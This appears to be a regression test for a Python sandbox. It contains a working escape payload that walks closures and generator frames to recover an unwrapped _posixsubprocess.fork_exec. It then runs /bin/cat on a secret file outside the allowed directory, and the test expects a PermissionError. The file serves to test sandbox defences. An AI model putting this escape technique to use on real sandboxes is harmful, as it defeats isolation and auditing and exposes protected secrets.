# rule: expose-ro=.
# expect: api PermissionError

"""Objective: run /bin/cat ../outside/secret.txt as a child process (no process-exec rule, no
python-import rule) with the unwrapped ``_posixsubprocess.fork_exec`` dug out of its
``wrappers.hide()`` generator, by sending that generator a request of the program's.

``hide()`` keeps the original in a suspended generator (``holder``) and the wrapper talks to it
through ``send``. The round-2 fix makes the wrapper convert path-like arguments before
entering the generator, so that no program code runs inside it -- but the generator itself is
within reach:

1. ``fork_exec.__closure__`` (no audit event) holds ``call``, whose ``__closure__`` holds
   ``send``, the holder's bound ``send`` method.
2. ``send(Request())`` resumes the holder with the program's object as ``request``; the holder
   evaluates ``before(request[0], request[1])``: ``Request.__getitem__`` runs with the
   holder's frame as its caller.
3. A generator frame kept from earlier (``sys._getframe()`` with no guard frame among its
   callers: allowed) is resumed there; its ``f_back`` chain (no event) reaches the holder,
   whose ``f_locals`` (no event) hold ``fn``. ``__getitem__`` then raises: the holder catches it
   and suspends again, nothing announced.
"""

from _harness import attempt


def payload():
    import sys

    posix = sys.modules['posix']
    module = sys.modules.get('_posixsubprocess')  # loaded by python-sb's wrappers
    if module is None:  # plain python3
        import _posixsubprocess as module
    wrapped = module.fork_exec
    found = []

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'fn' in names and 'before' in names:
                    found.append(names['fn'])
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    def sends(function):
        for cell in getattr(function, '__closure__', None) or ():
            value = cell.cell_contents
            if type(value).__name__ == 'builtin_function_or_method' and value.__name__ == 'send':
                yield value
            elif type(value).__name__ == 'function':
                yield from sends(value)

    class Request:
        def __getitem__(self, index):
            next(walker)
            raise LookupError('nothing to run')

    for send in sends(wrapped):
        send(Request())
    fork_exec = found[0] if found else wrapped  # plain python3: no wrapper
    read_end, write_end = posix.pipe()
    err_read, err_write = posix.pipe()
    pid = fork_exec(
        [b'/bin/cat', b'../outside/secret.txt'], [b'/bin/cat'], True, (write_end, err_write),
        None, None, -1, -1, -1, write_end, -1, -1, err_read, err_write,
        True, False, -1, None, None, None, -1, None, False,
    )
    posix.close(write_end)
    posix.close(err_write)
    posix.waitpid(pid, 0)
    data = posix.read(read_end, 100).decode()
    assert data == 'the secret\n', data
    return data, len(found)


attempt(payload)
